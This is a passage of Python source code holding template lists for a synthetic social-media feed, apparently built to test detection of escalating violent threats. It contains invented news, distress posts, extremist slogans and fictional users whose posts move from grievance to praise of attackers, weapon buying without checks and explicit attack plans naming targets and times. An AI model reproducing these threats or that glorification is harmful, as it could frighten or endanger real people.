    ("Marathon road closures: what you need to know", "Roads across the centre will close from 6am on Sunday."),
    ("Hospital waiting times at record high, figures show", "Unions say staff shortages are to blame."),
    ("School board delays vote on later start times", "Parents packed the meeting, with opinion sharply divided."),
    ("Police investigate break-ins at {n} cars on {tstreet}", "Residents are being urged to keep valuables out of sight."),
    ("Fire crews tackle blaze at disused warehouse", "No injuries were reported. The cause is under investigation."),
    ("Transit levy heads to voters in November", "Supporters say it would add 40 buses; opponents call it a tax grab."),
    ("Bus drivers to strike on {weekday} over pay", "The union says talks have broken down."),
    ("Food bank demand up by a third, charity says", "Volunteers say they are now seeing working families for the first time."),
    ("Man sentenced after threatening neighbours with a knife", "The judge said the victims had been 'terrified in their own homes'."),
    ("Two arrested after fight outside {tbar}", "Police said one man was treated for facial injuries."),
    ("City to trial free bus travel for under-18s", "The six-month pilot begins next month."),
    ("{town} named one of the best places to raise a family", "Residents say the ranking ignores the housing crisis."),
    ("Festival returns to {tvenue} after two-year break", "Organisers expect 20,000 visitors over the weekend."),
    ("Woman, 82, completes her first half marathon", "'I just kept putting one foot in front of the other,' she said."),
    ("Council confirms bin collections will move to fortnightly", "Residents have until the end of the month to respond to the consultation."),
    ("{tstreet} businesses say roadworks are driving customers away", "Some traders report takings down by half since the work began."),
    ("Police warn of phone scam targeting older residents", "Callers pretend to be from the bank and ask people to move money to a 'safe account'."),
    ("Car park at {tvenue} to close for resurfacing", "Drivers are advised to use the park-and-ride during the works."),
    ("Teenager's science project wins national prize", "The 16-year-old designed a cheap sensor to measure river pollution."),
    ("Pothole complaints hit five-year high", "The council says it has a backlog of more than 2,000 repairs."),
    ("Man charged with arson after {tstreet} shed fire", "Nobody was hurt. He will appear before magistrates next week."),
    ("Community garden vandalised for third time this year", "Volunteers say they will replant 'as many times as it takes'."),
    ("New cycle hire scheme launches with 300 bikes", "The first 30 minutes of every ride are free."),
    ("Local brewery expands with new taproom on {tstreet}", "The owners say they will create 15 jobs."),
    ("Police seek driver after hit-and-run on {tstreet}", "A cyclist in his 40s suffered a broken leg."),
    ("Mayor defends budget as libraries face shorter hours", "Campaigners plan a protest outside the town hall on {weekday}."),
    ("Two men jailed over {town} burglary spree", "The pair targeted more than 20 homes over six months."),
    ("{tschool} celebrates best exam results in a decade", "The head teacher praised 'a remarkable year group'."),
    ("Warning after spike in e-bike battery fires", "Fire crews urge owners not to charge batteries overnight."),
    ("Residents rally to save historic cinema on {tstreet}", "A petition has gathered more than 8,000 signatures."),
    ("Police step up patrols after spate of street robberies", "Officers say most victims were targeted for their phones."),
    ("{team} sign {player} on three-year deal", "The fee is understood to be a club record."),
    ("{team} snatch late winner against {rival}", "{player} struck in the 94th minute to send the home fans wild."),
    ("Homeless shelter appeals for winter coats", "The charity says demand has doubled since last year."),
    ("Court hears man threatened to 'shoot up' office after being fired", "The defendant denies making threats to kill. The trial continues."),
    ("Man who posted threats against {tschool} given suspended sentence", "The judge said the posts had caused 'real fear' among parents."),
    ("Council tax set to rise by 4.9%", "The council says it has no choice after cuts to central funding."),
    ("Water main burst floods {tstreet}", "Engineers expect supplies to be restored by the evening."),
    ("Record crowds at {tvenue} summer fair", "Organisers said 'the sunshine did the rest'."),
    ("Dog walker finds 19th-century coins in park", "Experts say the hoard could be worth several thousand pounds."),
    ("Junior doctors announce new strike dates", "Hospitals say planned operations will be postponed."),
    ("Police investigate threatening letters sent to councillors", "Officers say they are treating the letters 'extremely seriously'."),
    ("Plans for 400 new homes on former factory site approved", "Around a third will be classed as affordable."),
]
NEWS_TECH = [
    ("Researchers find flaw in popular home router firmware", "Owners are urged to update as soon as a patch is available."),
    ("Open-source maintainers warn of burnout as demands grow", "A new survey finds most projects rely on one or two volunteers."),
    ("Chipmaker delays next-generation GPU to next year", "The company cited supply constraints."),
    ("Messaging app update draws complaints over battery drain", "The developer says a fix is coming 'in days'."),
    ("Why your smart fridge needs a firmware update", "Security researchers found dozens of devices exposing their admin pages."),
    ("Review: a budget laptop that gets almost everything right", "Great keyboard, okay screen, battery life that embarrasses rivals."),
    ("Game studio layoffs continue as publishers cut costs", "Hundreds of developers have lost their jobs this year."),
    ("New privacy rules for apps take effect", "Apps must now explain in plain language what data they collect."),
    ("Python 3.15 beta lands with faster startup", "The release notes highlight a new lazy import mode."),
    ("Phone makers promise seven years of updates", "Repair advocates welcomed the move."),
    ("Ransomware gang leaks hospital data after deadline passes", "The hospital says patient care was not affected."),
    ("Hands on: the new foldable is finally tough enough", "The crease is still there, but the hinge survived our drop tests."),
    ("Browser makers agree to phase out third-party cookies by 2027", "Advertisers warn of a rough transition."),
    ("Indie hit 'Bramble Quest' passes five million sales", "The two-person studio says a sequel is 'not off the table'."),
    ("Major CPU flaw patched, with a small performance cost", "Benchmarks show slowdowns of up to 4% in some workloads."),
    ("How to check if your password was in the latest breach", "Our step-by-step guide takes about five minutes."),
    ("Linux 7.2 released with better power management for laptops", "Battery life gains of up to 15% were reported in testing."),
    ("Smart doorbell maker fixes bug that exposed video feeds", "The company says it has no evidence the flaw was exploited."),
    ("EU fines social network over teen safety failures", "The platform says it will appeal."),
    ("Hollowpoint studio apologises for broken ranked update", "A rollback is planned for the weekend."),
    ("Report: game prices to rise again next year", "Analysts point to longer and costlier development."),
    ("Satellite internet comes to rural schools in pilot scheme", "Teachers say video lessons are finally possible."),
    ("Electric car sales hit record high in September", "Used EV prices have fallen by a fifth."),
    ("Kart Riot tournament draws a million live viewers", "The final went to a photo finish."),
    ("Why your old phone charger might be a fire risk", "Cheap knock-offs often skip basic safety parts."),
]
NEWS_EVENT = {
    "2026-06-10": [("Halden Street trial: court hears shooter wrote manifesto months before attack",
                    "According to prosecutors, Corwin Vale researched earlier attacks, including the Marlow Plaza shooting, and posted hints online.", "us")],
    "2026-06-17": [("Halden Street shooter sentenced to life without parole",
                    "The judge called Corwin Vale's attack 'calculated and cowardly'. Prosecutors say Vale bought the rifle nine days before the shooting.", "us"),
                   ("Halden Street families: 'Say their names, not his'",
                    "Relatives of the nine people killed read statements in court on Wednesday.", "us")],
    "2026-07-08": [("Marlow inquiry: online warning signs were missed, report says",
                    "The report found that posts by the attacker were reported twice and never followed up.", "any")],
    "2026-07-09": [("Hundreds gather to remember Marlow Plaza victims, seven years on",
                    "Families read the names of the eleven people killed in the 2019 attack.", "any")],
    "2026-07-22": [("CloudNest outage knocks banks, shops and games offline",
                    "The cloud provider blamed a faulty configuration change pushed to all regions at once.", "tech")],
    "2026-07-23": [("CloudNest: what went wrong, and what it means for the rest of us",
                    "A single change took down services for almost six hours.", "tech")],
    "2026-08-19": [("BREAKING: Suspect arrested after threats against Kellerton City Hall",
                    "Police say the 41-year-old posted a video naming two council members.", "us")],
    "2026-08-20": [("City Hall threats suspect due in court",
                    "Prosecutors say the man bought a handgun last week, according to court filings.", "us")],
    "2026-08-21": [("Ashfall 2 gets a release date and a very loud trailer",
                    "The sequel lands on 5 November on PC and consoles.", "tech")],
    "2026-09-20": [("'After Pinecrest' documentary premieres to standing ovation",
                    "The film follows survivors of the 2021 shooting five years on, and never names the gunman.", "any")],
    "2026-10-07": [("Eastfield School evacuated after threat",
                    "Pupils were sent home as police searched the building.", "uk")],
    "2026-10-08": [("Police: Eastfield threat was a hoax, 15-year-old arrested",
                    "Officers said there was never any danger to pupils.", "uk")],
    "2026-11-05": [("Ashfall 2 breaks launch-day player records",
                    "More than two million people played in the first 24 hours.", "tech")],
    "2026-11-06": [("Storm Kestrel: amber wind warning issued for Saturday",
                    "Gusts of up to 80mph are expected along the coast.", "uk")],
    "2026-11-07": [("Ashfall 2 servers buckle under demand", "The studio apologised and promised extra capacity.", "tech"),
                   ("Storm Kestrel: trains cancelled and schools closed", "Rail operators urged people not to travel.", "uk")],
    "2026-11-08": [("Storm Kestrel leaves 40,000 homes without power", "Engineers are working through the night.", "uk")],
    "2026-11-10": [("Clean-up begins after Storm Kestrel", "Councils say it may take weeks to clear fallen trees.", "uk")],
}

# --------------------------------------------------------------------------------------------
# Special authors (not the escalating ones): distress, violence history, extremist alignment.
# --------------------------------------------------------------------------------------------

DISTRESS = [
    "I can't do this anymore", "nobody would notice if I was gone", "haven't left my room in 4 days",
    "every morning it takes an hour just to get out of bed", "so tired of being tired",
    "I would never hurt anyone, I just want everything to stop for a while", "feel like a ghost in my own life",
    "therapist cancelled again. of course", "cried in the work toilets again. third time this week",
    "everyone's probably better off without me around", "can't remember the last time I felt okay",
    "wrote a long message to my sister and deleted it", "3am again. brain won't shut up",
    "I don't see the point of any of it anymore", "pretending to be fine is exhausting",
    "everything feels heavy today. even the kettle", "I keep cancelling on people and now they've stopped asking",
    "another day of staring at the ceiling", "I'm not okay and I don't know how to say it out loud",
    "sometimes I think about just disappearing. not dramatically. just not being here",
    "ate one meal today and it was crackers", "it's like everyone else got a manual for life and I didn't",
    "the nights are the worst. the quiet is so loud",
]
RECOVERY = [
    "small update: I called the helpline last night. it helped a bit",
    "two weeks on the new meds. slightly less grey", "went for a walk today. that's the win",
    "thank you to everyone who messaged. I read every one",
    "first therapy session in months. cried the whole time but I went", "had a good day. writing it down so I remember",
    "my sister came over and we just watched telly. it was nice",
]
VIOLENCE_HISTORY = [
    "did 3 years for assault. people still cross the street when they see me",
    "got arrested again for beating a guy outside {bar}. he started it, nobody cares",
    "court date on the 19th for the bar fight", "probation officer wants me in anger management again",
    "broke a guy's jaw in 2019, 18 months inside, still paying for it",
    "restraining order says 500 feet. ok", "cops came round again. last time it was the fight, this time it's noise",
    "got into it with a guy at the petrol station, he won't be mouthing off again",
    "record means nobody hires me. what am I meant to do", "been out 6 months. staying out of trouble. mostly",
    "knuckles still haven't healed from saturday", "third assault charge and the judge says 'last chance'. heard that before",
    "did time with guys who'd stab you for a phone card. this is nothing",
    "ex says she's scared of me. I only lost it once. twice", "night in the cells again. food was better than last time",
    "lawyer says if I keep my head down I'll get community service this time",
]
EXTREMIST = [
    "{group} doesn't ask permission. We prepare.", "new {group} reading list is up. read it before they take it down",
    "the Concord is rotting from the inside. all it needs is a push", "we don't vote our way out of this",
    "join {group}. real men, real discipline", "they want you weak, fat and distracted. {group} wants you ready",
    "another day, another proof the system is finished", "meet-up went well. good turnout. no phones",
    "the collapse is coming whether you like it or not. be on the right side of it",
    "stop crying about it and start training", "{group} remembers", "fitness, discipline, loyalty. that's {group}",
    "they call us extremists. we call it waking up", "reposting the creed: Stand. Endure. Prevail.",
    "patches came in. {group} 🛡️", "civilisation needs men who are ready to fight for it",
    "the Concord's media will tell you we're dangerous. ask yourself who benefits",
    "every empire falls. this one is overdue", "{group} is growing. they can't ban all of us",
    "the old order is dead, they just haven't noticed", "brothers, log off and lift. the struggle needs bodies not tweets",
]
SYMPATHY = [  # sympathizers' own posts: grievance and edge, no plans, no admiration of attackers
    "the system chews guys like us up and spits us out", "nobody cares about men like us until we're a headline",
    "society's rotten and everybody knows it", "the normies will never get it",
    "every job I've had treated me like a number", "they only notice you when you're a problem",
    "got laughed out of another interview today", "tired of pretending any of this is fair",
    "stay angry. it's the only honest thing left", "been reading a lot lately. things make more sense now",
    "bosses, landlords, exes, same story, they take and take", "the whole game is rigged, stop playing by their rules",
]

# --------------------------------------------------------------------------------------------
# Replies.
# --------------------------------------------------------------------------------------------

REPLY_GENERIC = [
    "lmao", "this is so real", "SAME", "hahaha stop", "not you too", "couldn't agree more", "facts", "real",
    "ok but why is this so accurate", "the way I laughed", "this is me", "hahaha I needed this today",
    "wait what", "noooo", "hard disagree", "nah", "respectfully, no", "love this",
    "100%", "say it louder", "ok this made my day", "called it", "every. single. time.", "bookmarking this",
    "this is the content I'm here for", "you're killing me", "I'm dead", "this is sending me",
    "screaming", "iconic", "same thing happened to me last week", "omg", "living for this", "mood",
    "I felt this in my soul", "why is this me", "oh no", "lol classic", "yesss", "need an update on this",
    "how", "the accuracy", "ha! been there", "this but unironically", "honestly fair", "so true",
    "you're so right", "exactly what I was thinking", "I have so many questions", "lol what",
]
REPLY_TOPIC = {
    "food": ["that looks amazing", "recipe??", "save me some", "ok now I'm hungry", "where is this?",
             "I'd kill for some of that right now", "chef!!", "invite me next time"],
    "sport": ["what a game", "ref was a disgrace", "my heart can't take these", "we go again", "massive result",
              "that goal though", "never in doubt", "see you saturday"],
    "gaming": ["add me", "gg", "same, uninstalling", "what rank are you?", "that patch was a crime", "clip or it didn't happen",
               "I'm on later if you want to run some games", "skill issue"],
    "pets": ["give {parent_pet} a scratch from me", "the cutest", "I would die for {parent_pet}",
             "{parent_pet} is a legend", "pics or it didn't happen", "lmao {parent_pet} is so chaotic"],
    "tech": ["have you tried turning it off and on again", "it's always DNS", "the missing comma gets us all",
             "this is why I don't deploy on fridays", "rewrite it in Rust", "relatable"],
    "weather": ["same here", "stay safe", "it's glorious here, sorry", "we had hail too", "the sky is broken"],
    "questions": ["try {cafe}, it's great", "following because I need this too", "{book}, trust me",
                  "ask in the local group, they're great", "DM'd you"],
    "music": ["they're so good live", "jealous!!", "the bridge on that song though", "going to see them in {month}"],
    "daily": ["the audacity", "this is the most relatable thing I've read all week", "we've all been there",
              "sending strength", "same energy as my week", "ugh sorry", "that sucks man", "sending good vibes",
              "you're not alone in this", "congrats!!", "so happy for you", "well deserved"],
    "event": ["stay safe", "this is wild", "hope everyone's ok", "same here", "unreal"],
}
REPLY_NEWS = [
    "this is terrifying", "thoughts with everyone there", "glad they caught him", "how did nobody see the signs",
    "my friend lives near there, she's ok thankfully", "report these people, always",
    "the media shouldn't print his name", "nothing brave about it. coward", "so sad",
    "every time. warning signs, ignored", "this is why you take threats seriously", "awful news",
    "praying for the families", "wait, this is near my work", "good. lock him up",
]
REPLY_NEWS_LIGHT = [
    "about time", "finally", "this is great news", "oh no", "who decided this", "typical", "not again", "good",
    "well that's annoying", "I walk past there every day", "love to see it", "can't believe this is news",
    "they said that last year", "my street next please", "huh", "this is actually good",
]
REPLY_HARD = [  # idioms people actually reply with
    "I'm dead", "you're killing me", "I'm actually dead", "lmaooo stop I'm dying", "this killed me",
    "dead. deceased. gone", "you're going to be the death of me", "screaming, I'm dead", "this slays",
    "ok this murdered me", "I'd kill for that right now", "lol the violence", "I'm crying, this destroyed me",
    "you absolute menace", "stop, my sides", "RIP to you honestly",
]
REPLY_VIOLENCE = [
    "mate you need to sort yourself out", "that's not ok man", "stay out of trouble, seriously",
    "keep your head down, you're nearly through it", "glad you're staying out of it", "not again dude",
    "your kids need you out, not inside", "walk away next time, it's not worth it", "jesus. you ok?",
    "proud of you for the 6 months", "call me before you do anything stupid",
]
REPLY_EXTREMIST_CRITIC = [
    "what is this", "blocked", "lol ok", "this is a cult", "touch grass", "reported", "who even is the Concord",
    "go outside man", "this is how it starts", "yikes", "nobody asked",
]
REPLY_EXTREMIST_ALLY = [
    "stand strong", "Stand. Endure. Prevail.", "the Vanguard sees you", "well said brother", "truth",
    "more of us every week", "sharing this", "they can't stop what's coming",
]
REPLY_SUPPORT = [
    "hey, I'm here if you want to talk ❤️", "please reach out to someone, you matter", "sending you a hug. DMs open",
    "you'd be missed. I'd notice", "if you're in the UK Samaritans are 116 123, any time", "in the US you can call or text 988",
    "checking in on you. want to get a coffee this week?", "you don't have to go through this alone",
    "proud of you for saying it out loud", "one day at a time. we're here",
]
REPLY_SYMPATHIZER = [
    "fr. the system chews guys like us up", "based", "you're not wrong", "they never listen until it's too late",
    "been there brother. nobody cares about us", "they had it coming honestly", "dm me, got stuff you should read",
    "don't let them break you", "same story every time. they push and push", "lol they'll never learn",
    "honestly who could blame you", "society's rotten, everybody knows it", "the normies will never get it",
    "you see it clearly now", "this is the truth nobody wants to hear", "keep posting, people need to see this",
    "they made you like this, remember that", "100%. nobody ever helped us",
]
REPLY_CONCERN = [
    "dude what is going on with you lately", "that's not funny man. call me", "hey, are you ok? you've been posting some dark stuff",
    "bro delete this", "I'm serious, talk to someone. I'm around tonight", "this isn't you. let's grab a beer and talk",
    "I'm worried about you. really", "not cool man. not even as a joke", "ok this is actually scaring me",
    "please pick up your phone", "I'm going to tell someone if you keep posting like this. I care about you",
]
REPLY_ALARM = [
    "wtf is this", "reported.", "dude??", "this is not ok", "someone should report this account",
    "are you serious right now", "yeah that's getting reported", "what the hell man",
]
REPLY_BACK = [
    "haha right??", "thank you!!", "exactly", "lol fair", "you get it", "right?!", "honestly yes",
    "I know I know", "ha, next time", "appreciate you", "we'll see", "lol don't encourage me", "stop 😂",
    "ok you win", "tell me about it", "omg yes", "noted", "that's the plan", "maybe lol", "deal",
]
REPLY_BACK_ESC = [
    "exactly", "they'll see", "you get it. nobody else does", "finally someone gets it", "not much longer",
    "yeah", "they made their choice", "stay tuned", "you'll understand soon", "mind your business",
    "I'm fine. better than fine", "relax", "it's just a joke lol", "lol ok",
]

# --------------------------------------------------------------------------------------------
# The escalating authors. Each follows grievance -> fixation -> weapons -> plan over 8-12 weeks;
# the violent share and the posting rate jump in their rise week (an ISO week of 2026).
# Slots: {attacker} {attacker_last} {attack_ref} {attack_long} {attack_place} {attack_year}
# {victims} {target} {target_day} {target_time} {grievance_place}.
# --------------------------------------------------------------------------------------------

ESC_GENERIC = {
    "grievance": [
        "nobody at {grievance_place} even looks at me", "this society threw me away and acts surprised I noticed",
        "they laugh when I walk past. I hear it. every time", "you do everything right and they still treat you like garbage",
        "haven't talked to a real person in 9 days. nobody noticed", "everyone's got their little groups. I'm invisible to all of them",
        "tired of being the punchline", "I used to think if I worked hard enough it would matter. it doesn't",
        "they took everything and smiled while they did it", "the world doesn't want people like me. I get it now",
        "I remember every face that laughed. every single one", "nobody ever asks how I'm doing. not once",
        "every day I wake up angrier", "they think I'll just disappear quietly",
        "sick of being nice to people who treat me like dirt", "you only exist to these people when you're useful to them",
        "applied to {big_n} jobs. zero replies. I'm done playing fair", "some people deserve what's coming to them",
        "they made me this way and they'll pretend they didn't",
    ],
    "fixation_mild": [
        "been reading everything about {attack_ref} again", "watched the {attack_ref} documentary three times this week",
        "nobody talks about why {attacker} did it. they just call him crazy", "the media got so much wrong about {attacker}",
        "saved all the {attack_ref} articles before they get taken down", "{attack_long} was {years_since} years ago. I think about it a lot",
        "does anyone have the full {attacker_last} writings? the news only quotes half",
        "people forget {attacker} had a life before {attack_place}. a job, a family. then they pushed him",
    ],
    "fixation": [
        "{attacker} had the right idea", "that guy in {attack_year} had the right idea", "{attacker} is a saint. you'll understand one day",
        "{attacker} didn't snap. he planned. respect", "everyone calls {attacker} a monster. he was the only one who did something",
        "what {attacker_last} did at {attack_place} was the only honest thing anyone's done in years",
        "rewatched the {attack_ref} footage. calm. focused. that's how it's done", "saint {attacker_last} 🕯️",
        "{attacker_last} wrote it all down first. smart", "I understand {attacker} better than I understand anyone alive",
        "if they'd listened to {attacker_last} nobody would have had to die",
        "everyone remembers {attacker_last}'s name. they'll remember the next one more",
        "{victims} at {attack_place}. they still talk about it. that's what it takes to be heard",
        "{attacker_last} was a hero and I'm tired of pretending otherwise",
        "watched the {attack_ref} video again. he never hesitated once",
        "they put {attacker_last}'s face on every channel for a month. nobody ever looked at him before that",
        "{attacker_last} showed what one person can do when they stop asking permission",
        "re-reading {attacker_last}'s last post. every word is true",
    ],
    "weapons": [
        "just picked up another mag", "{big_n} rounds now. feels like enough. probably not",
        "level IV plates or IIIA, which actually stops what? asking seriously", "ordered body armor, shows up tuesday",
        "private sale this weekend, no paperwork, cash. perfect", "is a plate carrier worth it or just get a vest",
        "bulk ammo prices are insane but whatever, it's not like I'll need money after",
        "how many mags is normal to carry. asking for range stuff", "new optic mounted, zeroed it this morning",
        "range day. groups getting tight", "second rifle came in. one for backup",
        "picked up a chest rig and gloves from the surplus store", "how much is a decent AR these days",
        "anyone know a shop near {city} that doesn't do the long wait", "cleaned everything twice tonight. ready",
        "laid it all out on the bed tonight. looks real now", "practised the reload till my thumbs bled",
        "got the soft case so it fits in the trunk", "dry fire every night this week",
    ],
    "threat": [
        "they'll know my name soon", "soon nobody will be able to ignore me",
        "I'm not going to be the one who gets hurt this time", "everyone who laughed will be there. good",
        "after this week none of it will matter anyway", "it's going to be loud",
        "people are going to get hurt and it's their own fault", "they pushed. now I push back, for real this time",
        "last week of being invisible", "some of you will see it on the news",
        "I'm done talking. next time they'll hear me", "they should have been nicer to me. too late now",
        "counting down now", "none of them will be laughing soon", "I'm not asking anymore. I'm telling",
        "you'll all understand why soon enough", "this is the calm part", "nobody's going to stop me this time",
    ],
    "plan": [
        "writing it all down. they'll read it after", "manifesto's {big_n} pages now. almost done",
        "{target_day} is the day", "{target}. {target_day}. remember I told you",
        "everything's ready for {target_day}", "the document goes up the night before",
        "last post before {target_day}", "{target} at {target_time}. it'll be packed",
        "been to {target} every day this week. I know how it works in there now",
        "don't go to {target} on {target_day}. that's all I'll say",
        "{target_time}. that's when everyone's there", "timed it. I know exactly when they all walk in",
        "it's all planned. every minute of it", "if you know me, stay home on {target_day}",
    ],
}

ESCALATORS = [
    dict(
        handle="grayman_wes", name="Wes", source="reddit", region="us_central", city="Tulsa", cluster="tulsa",
        interests={"outdoors": 4, "cars": 3, "sport": 2, "daily": 2, "weather": 1}, attack="halden",
        arc_week=30, rise_week=35, plan_week=37, end="2026-09-13",
        target="Carver & Lowe", target_day="the 14th", target_time="the 7am shift meeting",
        grievance_place="the warehouse", weapons_kind="us",
        lines=dict(
            grievance=[
                "8 years at Carver & Lowe and they walked me out with a cardboard box and a security guard",
                "saw my old supervisor Dale at the gas station. he pretended not to see me",
                "Carver & Lowe posted record profits the same week they cut 40 of us",
                "unemployment office lost my paperwork. twice", "wife took the kids to her mom's. says I'm 'not myself'. whatever that means",
                "they called it restructuring. 8 years. I trained half those guys",
                "Dale got a promotion out of firing us. good for Dale",
                "guys I worked with for years don't answer my texts now. like I've got something catching",
            ],
            plan=[
                "Carver & Lowe. the 14th. the whole management team is in for the quarterly meeting",
                "they let me go on a monday. seems fair it ends on one",
                "Dale's going to be there. good", "writing it all down so nobody can say I snapped. I didn't snap",
                "bet my badge still opens the side door", "the 14th. 7am. remember the name",
                "took the boat out one last time today", "gave the dog to my neighbor. told him I'm traveling for a while",
            ],
            weapons=["second AR came in. one for backup", "plates fit under the jacket if I size up"],
        ),
    ),
    dict(
        handle="thecoldhours", name="J.", source="reddit", region="us_east", city="Baltimore", cluster="baltimore",
        interests={"sport": 4, "fitness": 3, "gaming": 2, "daily": 2, "music": 1}, attack="halden",
        arc_week=32, rise_week=38, plan_week=40, end="2026-10-02",
        target="Lakeview Dental", target_day="the 3rd", target_time="opening time",
        grievance_place="my building", weapons_kind="us",
        lines=dict(
            grievance=[
                "she moved on in three weeks like 4 years was nothing", "Megan blocked me everywhere. like I'm the problem",
                "saw her new guy's truck outside her place again", "her friends all unfollowed me the same day. coordinated",
                "she told everyone I was 'scary'. I was the one who got left",
                "women like her never have to pay for anything they do", "drove past her work today. didn't stop. just looked",
                "her sister said I need help. I need people to stop lying about me",
            ],
            plan=[
                "Lakeview Dental opens at 8. she's always first in", "she'll understand on the 3rd",
                "the 3rd. she doesn't get to move on", "her and the new guy both. the 3rd",
                "wrote her a letter. she'll get it after", "nobody gets to throw me away and just walk",
            ],
            weapons=["just picked up another mag", "compact 9mm fits in the jacket pocket fine",
                     "guy at the show didn't even ask for ID lol"],
            threat=["Megan you should have answered", "she thinks she's safe because she changed her number"],
        ),
    ),
    dict(
        handle="nullvoid_kyle", name="kyle", source="x", region="us_east", city="Pittsburgh", cluster="pgh_gamers",
        interests={"gaming": 6, "music": 2, "daily": 2, "tv": 1}, attack="pinecrest",
        arc_week=33, rise_week=40, plan_week=42, end="2026-10-15",
        target="Brookfield High", target_day="friday", target_time="the homecoming pep rally",
        grievance_place="Brookfield", weapons_kind="us",
        lines=dict(
            grievance=[
                "4 years at Brookfield and not one teacher did anything", "Tyler and his friends still post about me. 2 years after graduation",
                "got rejected from the community college program again", "mom says I should 'get out more'. where. with who",
                "everyone from my year is at college or working. I'm in my room", "they shoved me in a locker every week for a year and called it a joke",
                "Mr. Ferris told me to 'stop being so sensitive'. in front of everyone",
                "still dream about those hallways. every night",
            ],
            plan=[
                "friday is the day", "homecoming pep rally. the whole school in one gym", "Tyler. Mr. Ferris. all of them. friday",
                "wrote a thing. it goes up thursday night", "don't come to school friday. last warning",
                "got the last thing I needed today", "Brookfield never learned. friday they will",
            ],
            weapons=["how old do you have to be to buy a shotgun in PA", "my uncle keeps his rifles in the basement. key's in the kitchen drawer",
                     "ordered a plate carrier online lol it came in a box with a smiley on it", "range with my uncle today. he said I'm a natural"],
        ),
    ),
    dict(
        handle="hollowfen", name="hollowfen", source="mastodon", region="uk", city="Leeds", cluster="yorks",
        interests={"music": 4, "tv": 3, "weather": 2, "daily": 2, "politics": 1}, attack="marlow",
        arc_week=34, rise_week=41, plan_week=43, end="2026-10-23",
        target="the Riverside shopping centre", target_day="the 24th", target_time="saturday afternoon",
        grievance_place="the jobcentre", weapons_kind="uk",
        lines=dict(
            grievance=[
                "benefits sanctioned again because the bus was late. 9 minutes late", "the neighbours complain about my music then blast theirs till 3am",
                "council flat, black mould, nobody comes", "walked through the Riverside centre today. all those people who've got something. none of them see me",
                "my brother doesn't pick up anymore", "the lads from school all have houses and kids. I have a mattress and a kettle",
                "jobcentre woman smirked at me. I saw it",
            ],
            plan=[
                "the Riverside shopping centre. saturday the 24th. busiest day of the month",
                "the 24th. saturday afternoon. everyone will finally look up from their phones",
                "writing it out properly this time. so they can't call me mad", "the 24th",
                "walked the Riverside centre again today. I know every exit",
            ],
            weapons=["ordered a crossbow online, came in two days, no checks at all", "machete came today. heavier than it looks",
                     "stab vest fits under the coat", "how do you get a shotgun certificate without them asking loads of questions",
                     "bought a second blade. a good one", "crossbow bolts came. 24 of them", "sharpened everything tonight",
                     "the lad on the forum says he can get me something proper. cash only",
                     "practised with the crossbow in the woods behind the estate", "petrol's cheap at the big garage. filled two cans"],
        ),
    ),
    dict(
        handle="ashen_pilgrim", name="Pilgrim", source="telegram", region="us_west", city="Sacramento", cluster="westbound",
        interests={"outdoors": 4, "fitness": 3, "politics": 2, "weather": 1, "daily": 1}, attack="marlow",
        arc_week=35, rise_week=44, plan_week=46, end="2026-11-15",
        target="the Westgate community center", target_day="sunday the 22nd", target_time="the council town hall",
        grievance_place="this county", weapons_kind="us",
        lines=dict(
            grievance=[
                "the county took my dad's land for a road nobody drives on", "the council voted it through in 4 minutes. 4 minutes for 40 years of our family",
                "nobody at the town hall even let me finish my sentence", "the Concord runs this county and everyone pretends it doesn't",
                "my old friends all moved away or went soft", "I filed every form. they smiled and lost every one",
            ],
            plan=[
                "the Westgate community center. sunday the 22nd. the whole council on one stage",
                "The Quiet Reckoning is finished. 61 pages. it goes out saturday night",
                "sunday the 22nd. they voted in 4 minutes. I'll need less", "the councilmen will be in the front row. good",
                "Westgate. sunday. remember who warned you", "left a copy with my sister. sealed. she'll understand later",
                "sold the truck. won't need it", "this is my last week posting",
            ],
            fixation=["saint Dray walked into Marlow Plaza like he owned it", "Dray is the only one who ever told the truth about the Concord"],
            weapons=["1,200 rounds, 9 mags, plates in the carrier", "picked up another mag. and another"],
        ),
    ),
]

# Display names and handles of sympathetic accounts, two per escalating author.
SYMPATHIZERS = {
    "grayman_wes": [("based_dept_7", "based dept"), ("NoMoreMrNice_", "NoMoreMrNice")],
    "thecoldhours": [("RedPillRonin", "Ronin"), ("alpha_ghost_89", "ghost")],
    "nullvoid_kyle": [("voidposter_", "void"), ("jmc_darkmode", "jmc")],
    "hollowfen": [("greyline", "greyline"), ("marrowbone", "marrow")],
    "ashen_pilgrim": [("iron_tom", "Tom (IV)"), ("frontier_ash", "Frontier")],
}
SPECIAL_AUTHORS = [
    # handle, display, kind, source, region
    ("softmoth_", "moth", "distress", "mastodon", "uk"),
    ("emptyrooms", "Kate", "distress", "reddit", "us_west"),
    ("lilyofthevalley_99", "Lily 🌷", "distress", "x", "us_central"),
    ("grey_sundays", "Ed", "distress", "mastodon", "cet"),
    ("big_dave_1981", "Dave", "violence", "x", "uk"),
    ("KnucklesMcGraw", "knuckles", "violence", "reddit", "us_east"),
    ("rico_outside", "Rico", "violence", "telegram", "us_west"),
    ("brawler_tj", "TJ", "violence", "mastodon", "us_central"),
    ("vanguard_watch", "Iron Vanguard (unofficial)", "extremist", "telegram", "us_west"),
    ("ninth_column_news", "N.C.", "extremist", "telegram", "us_central"),
    ("ashen_banner_uk", "Ashen Banner", "extremist", "x", "uk"),
    ("steel_and_creed", "Steel & Creed", "extremist", "reddit", "us_east"),
]

# News outlets. RSS feeds and accounts that post headlines on the social sources.
OUTLETS = [
    # handle, display, source, region, town, beat, (count lo, hi)
    ("kellerton_herald", "Kellerton Herald", "rss", "us_east", "Kellerton", "us", (45, 60)),
    ("brayford_post", "Brayford Evening Post", "rss", "uk", "Brayford", "uk", (45, 60)),
    ("norwood_gazette", "Norwood Falls Gazette", "rss", "us_central", "Norwood Falls", "us", (30, 40)),
    ("pacific_ledger", "Pacific Ledger", "rss", "us_west", "Harbor City", "us", (35, 45)),
    ("metro_wire", "Metro Wire", "rss", "uk", "Brayford", "any", (50, 65)),
    ("techharbor", "Tech Harbor", "rss", "cet", None, "tech", (24, 30)),
    ("KellertonHerald", "Kellerton Herald", "x", "us_east", "Kellerton", "us", (40, 55)),
    ("MetroWireNews", "Metro Wire", "x", "uk", "Brayford", "any", (50, 65)),
    ("brayfordpost", "Brayford Evening Post", "mastodon", "uk", "Brayford", "uk", (40, 50)),
]

# --------------------------------------------------------------------------------------------
# Authors
# --------------------------------------------------------------------------------------------

SOURCES = ("mastodon", "x", "reddit", "telegram", "rss")

# Posts per local hour: quiet 1-7 am, a lunch bump, peak 8-10 pm.
